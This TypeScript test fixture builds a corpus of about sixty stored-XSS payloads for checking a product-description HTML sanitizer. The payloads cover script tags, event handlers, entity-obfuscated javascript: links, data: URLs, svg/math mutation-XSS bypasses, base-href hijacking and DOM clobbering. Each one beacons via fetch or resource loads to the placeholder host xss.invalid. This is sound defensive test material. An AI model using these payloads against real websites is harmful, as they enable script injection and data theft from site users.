/**
 * Stored-XSS corpus for product descriptions (SECURITY.md "Input and output", issue 5 "Stored
 * XSS"). Every payload, if it ever ran, would leave a trace the browser test sees:
 *  - `top.__xss` set to the payload's id (also from a same-origin iframe),
 *  - a request to https://xss.invalid/<id> (also from an opaque data: frame or a navigation),
 *  - an alert dialog.
 * The JavaScript has no spaces and no double quotes, so it fits quoted and unquoted attributes.
 */

const XSS_HOST = 'xss.invalid';
const XSS_ORIGIN = `https://${XSS_HOST}`;

export interface XssPayload {
  /** Short unique id, used in the marker and the beacon URL. */
  id: string;
  /** What the payload tries (for failure messages). */
  kind: string;
  html: string;
}

/** The script a payload tries to run. */
export const js = (id: string) => `top.__xss='${id}';fetch('${XSS_ORIGIN}/${id}');alert('${id}')`;

/** The same, HTML-escaped for an attribute (srcdoc) or entity-encoded character by character. */
const escapeHtml = (text: string) =>
  text.replace(/&/g, '&amp;').replace(/</g, '&lt;').replace(/>/g, '&gt;').replace(/"/g, '&quot;');
const decimalEntities = (text: string) =>
  Array.from(text, (char) => char)
    .map((char) => `&#${String(char.codePointAt(0))};`)
    .join('');
const hexEntities = (text: string) =>
  Array.from(text, (char) => char)
    .map((char) => `&#x${char.codePointAt(0)!.toString(16)};`)
    .join('');
const base64 = (text: string) => Buffer.from(text, 'utf8').toString('base64');

type Build = (id: string) => string;

const CORPUS: [kind: string, build: Build][] = [
  // ---- script tags ----
  ['script tag', (id) => `<script>${js(id)}</script>`],
  ['script tag, odd case and spacing', (id) => `<ScRiPt >${js(id)}</sCrIpT >`],
  ['script with a foreign src', (id) => `<script src="${XSS_ORIGIN}/${id}.js"></script>`],
  ['nested script split by the sanitizer', (id) => `<scr<script>x</script>ipt>${js(id)}</script>`],
  ['unclosed script after text', (id) => `<p>text</p><script>${js(id)}//`],
  // ---- event handlers ----
  ['img onerror', (id) => `<img src=x onerror="${js(id)}">`],
  ['img onerror, slash separators', (id) => `<img/src=x/onerror="${js(id)}">`],
  ['img onerror, no closing bracket', (id) => `<img src=x onerror="${js(id)}"`],
  ['svg onload', (id) => `<svg onload="${js(id)}"></svg>`],
  ['svg/onload shorthand', (id) => `<svg/onload="${js(id)}">`],
  ['body onload', (id) => `<body onload="${js(id)}">`],
  ['details ontoggle', (id) => `<details open ontoggle="${js(id)}"><summary>s</summary></details>`],
  ['input autofocus onfocus', (id) => `<input autofocus onfocus="${js(id)}">`],
  ['video source onerror', (id) => `<video><source onerror="${js(id)}"></video>`],
  ['audio onerror', (id) => `<audio src=x onerror="${js(id)}"></audio>`],
  [
    'allowed tag with onclick/onmouseover',
    (id) => `<p onmouseover="${js(id)}" onclick="${js(id)}">hover</p>`,
  ],
  [
    'handler smuggled through an allowed class',
    (id) => `<p class="ql-indent-1" onanimationstart="${js(id)}" style="animation:x 1s">c</p>`,
  ],
  [
    'attribute break-out in data-list',
    (id) => `<ol><li data-list='bullet" onmouseover="${js(id)}'>li</li></ol>`,
  ],
  ['span.ql-ui with a handler', (id) => `<span class="ql-ui" onpointerover="${js(id)}">s</span>`],
  // ---- javascript: links with entity and whitespace tricks ----
  ['javascript: link', (id) => `<a href="javascript:${js(id)}">click</a>`],
  ['jav&#x09;ascript: (tab entity)', (id) => `<a href="jav&#x09;ascript:${js(id)}">click</a>`],
  ['java&#10;script: (newline entity)', (id) => `<a href="java&#10;script:${js(id)}">click</a>`],
  ['leading control characters', (id) => `<a href=" &#14;&#x01; javascript:${js(id)}">click</a>`],
  ['mixed case and &colon;', (id) => `<a href="JaVaScRiPt&colon;${js(id)}">click</a>`],
  [
    'decimal-entity encoded scheme',
    (id) => `<a href="${decimalEntities('javascript:')}${js(id)}">click</a>`,
  ],
  [
    'hex-entity encoded, no semicolons',
    (id) => `<a href="${hexEntities('javascript:').replace(/;/g, '')}${js(id)}">click</a>`,
  ],
  [
    'javascript: with target _blank',
    (id) => `<a target="_blank" href="javascript:${js(id)}">click</a>`,
  ],
  ['vbscript: link', () => `<a href="vbscript:msgbox(1)">click</a>`],
  // ---- data: URLs ----
  [
    'data:text/html link',
    (id) => `<a href="data:text/html;base64,${base64(`<script>${js(id)}</script>`)}">click</a>`,
  ],
  [
    'data:text/html iframe',
    (id) => `<iframe src="data:text/html,<script>fetch('${XSS_ORIGIN}/${id}')</script>"></iframe>`,
  ],
  [
    'data:image/svg+xml object',
    (id) =>
      `<object data="data:image/svg+xml;base64,${base64(`<svg xmlns="http://www.w3.org/2000/svg" onload="fetch('${XSS_ORIGIN}/${id}')"/>`)}"></object>`,
  ],
  // ---- frames, objects, embeds ----
  ['iframe javascript:', (id) => `<iframe src="javascript:${js(id)}"></iframe>`],
  [
    'iframe srcdoc',
    (id) => `<iframe srcdoc="${escapeHtml(`<script>${js(id)}</script>`)}"></iframe>`,
  ],
  ['iframe to a foreign page', (id) => `<iframe src="${XSS_ORIGIN}/${id}"></iframe>`],
  ['object data=javascript:', (id) => `<object data="javascript:${js(id)}"></object>`],
  [
    'embed src data:text/html',
    (id) => `<embed src="data:text/html,<script>fetch('${XSS_ORIGIN}/${id}')</script>">`,
  ],
  // ---- svg and math (mutation XSS) ----
  ['svg script', (id) => `<svg><script>${js(id)}</script></svg>`],
  [
    'svg animate href to javascript:',
    (id) =>
      `<svg><a><animate attributeName="href" values="javascript:${js(id)}"/><text x="20" y="20">t</text></a></svg>`,
  ],
  [
    'svg foreignObject img',
    (id) => `<svg><foreignObject><img src=x onerror="${js(id)}"></foreignObject></svg>`,
  ],
  ['svg style mXSS', (id) => `<svg></p><style><a id="</style><img src=1 onerror=${js(id)}>">`],
  [
    'svg CDATA mXSS',
    (id) => `<svg><![CDATA[><image xlink:href="]]><img src=x onerror=${js(id)}//"></svg>`,
  ],
  [
    'math mtext table mglyph style mXSS',
    (id) => `<math><mtext><table><mglyph><style><img src=x onerror="${js(id)}">`,
  ],
  [
    'math form nesting mXSS',
    (id) => `<form><math><mtext></form><form><mglyph><style></math><img src onerror="${js(id)}">`,
  ],
  [
    'math annotation-xml mXSS',
    (id) =>
      `<math><annotation-xml encoding="text/html"><style><img src=x onerror="${js(id)}"></style></annotation-xml></math>`,
  ],
  ['comment break-out', (id) => `<!--<img src="--><img src=x onerror="${js(id)}"//">`],
  // ---- style, base, meta, forms ----
  [
    'style tag with a foreign import',
    (id) =>
      `<style>@import '${XSS_ORIGIN}/${id}.css';body{background:url(${XSS_ORIGIN}/${id}.png)}</style>`,
  ],
  [
    'inline style beacon',
    (id) => `<p style="background-image:url('${XSS_ORIGIN}/${id}.png')">styled</p>`,
  ],
  ['link stylesheet', (id) => `<link rel="stylesheet" href="${XSS_ORIGIN}/${id}.css">`],
  ['base href hijack', () => `<base href="${XSS_ORIGIN}/">`],
  [
    'meta refresh to javascript:',
    (id) => `<meta http-equiv="refresh" content="0;url=javascript:${js(id)}">`,
  ],
  [
    'meta refresh to a foreign page',
    (id) => `<meta http-equiv="refresh" content="0;url=${XSS_ORIGIN}/${id}">`,
  ],
  [
    'form action javascript:',
    (id) => `<form action="javascript:${js(id)}"><button>go</button></form>`,
  ],
  [
    'button formaction',
    (id) => `<form id="f"></form><button form="f" formaction="javascript:${js(id)}">go</button>`,
  ],
  [
    'form posting to a foreign host',
    (id) =>
      `<form action="${XSS_ORIGIN}/${id}" method="post"><input name="q" autofocus><input type="submit"></form>`,
  ],
  ['img to a foreign host (tracking pixel)', (id) => `<img src="${XSS_ORIGIN}/${id}.gif">`],
  // ---- noscript, template and other parser tricks ----
  [
    'noscript title break-out',
    (id) => `<noscript><p title="</noscript><img src=x onerror=${js(id)}>"></noscript>`,
  ],
  [
    'template holding a script',
    (id) => `<template><img src=x onerror="${js(id)}"><script>${js(id)}</script></template>`,
  ],
  ['textarea break-out', (id) => `<textarea></textarea><img src=x onerror="${js(id)}"></textarea>`],
  ['title break-out', (id) => `<title></title><img src=x onerror="${js(id)}"></title>`],
  [
    'DOM clobbering of the app config',
    () => `<a id="__APP_CONFIG__" name="__APP_CONFIG__" href="${XSS_ORIGIN}/clobber">c</a>`,
  ],
  ['marquee onstart', (id) => `<marquee onstart="${js(id)}">m</marquee>`],
];

/** The corpus with ids p01, p02, ...; each html starts with visible text so it is never "empty". */
export const XSS_PAYLOADS: readonly XssPayload[] = CORPUS.map(([kind, build], index) => {
  const id = `p${String(index + 1).padStart(2, '0')}`;
  return { id, kind, html: `<p>xss ${id}</p>${build(id)}` };
});
